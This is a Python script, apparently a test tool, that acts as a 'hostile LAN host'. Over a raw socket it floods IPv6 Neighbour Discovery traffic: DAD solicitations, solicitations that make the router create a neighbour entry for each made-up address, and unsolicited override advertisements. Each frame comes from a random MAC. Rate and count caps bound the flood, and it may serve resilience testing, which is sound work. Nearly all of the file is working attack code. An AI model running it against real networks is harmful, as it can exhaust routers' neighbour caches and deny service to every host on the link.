#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A hostile LAN host: floods made-up neighbours on an interface (raw Ethernet frames, every one from
a fresh random locally administered MAC), in equal thirds:
  - Duplicate Address Detection NS (source ::, to the target's solicited-node group),
  - NS from a made-up address with its source link-layer option, for the router's own address
    (the router's kernel makes a neighbour entry for each),
  - unsolicited NA (override) for a made-up address with its target link-layer option.
Made-up addresses are random IIDs in --prefix (a /64). Bounded: --count frames paced over --seconds.
  ndflood.py --iface eth0 --prefix 2001:db8:1:1:: --router 2001:db8:1:1::1 --count 20000 --seconds 8
Prints: sent=N seconds=S."""
import argparse
import ipaddress
import os
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def icmp6(src, dst, body):
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    c = csum(pseudo + body)
    return body[:2] + struct.pack("!H", c) + body[4:]


def frame(mac_dst, mac_src, src, dst, body):
    ip = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst
    return mac_dst + mac_src + b"\x86\xdd" + ip + icmp6(src, dst, body)


def solicited(a):
    return ipaddress.IPv6Address("ff02::1:ff00:0").packed[:13] + a[13:]


def mcast_mac(a):
    return b"\x33\x33" + a[12:]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--prefix", required=True)
    ap.add_argument("--router", required=True)
    ap.add_argument("--count", type=int, default=20000)
    ap.add_argument("--seconds", type=float, default=8.0)
    a = ap.parse_args()
    if a.count > 1000000 or a.seconds > 120:
        sys.exit("ndflood: too much")
    net = ipaddress.IPv6Address(a.prefix).packed[:8]
    router = ipaddress.IPv6Address(a.router).packed
    unspec = b"\0" * 16
    allnodes = ipaddress.IPv6Address("ff02::1").packed
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    t0 = time.monotonic()
    sent = 0
    batch = 100
    for i in range(a.count):
        mac = bytes([(os.urandom(1)[0] | 0x02) & 0xfe]) + os.urandom(5)
        addr = net + os.urandom(8)
        kind = i % 3
        if kind == 0:    # DAD: NS from ::, target the made-up address
            dst = solicited(addr)
            body = struct.pack("!BBH4x", 135, 0, 0) + addr
            f = frame(mcast_mac(dst), mac, unspec, dst, body)
        elif kind == 1:  # NS from the made-up address for the router, with SLLA
            dst = solicited(router)
            body = struct.pack("!BBH4x", 135, 0, 0) + router + b"\x01\x01" + mac
            f = frame(mcast_mac(dst), mac, addr, dst, body)
        else:            # unsolicited NA (override) for the made-up address, with TLLA
            body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + addr + b"\x02\x01" + mac
            f = frame(mcast_mac(allnodes), mac, addr, allnodes, body)
        s.send(f)
        sent += 1
        if sent % batch == 0:
            # pace: frame n leaves no earlier than n * seconds / count after the start
            ahead = sent * a.seconds / a.count - (time.monotonic() - t0)
            if ahead > 0:
                time.sleep(ahead)
    print("sent=%d seconds=%.2f" % (sent, time.monotonic() - t0), flush=True)


if __name__ == "__main__":
    main()
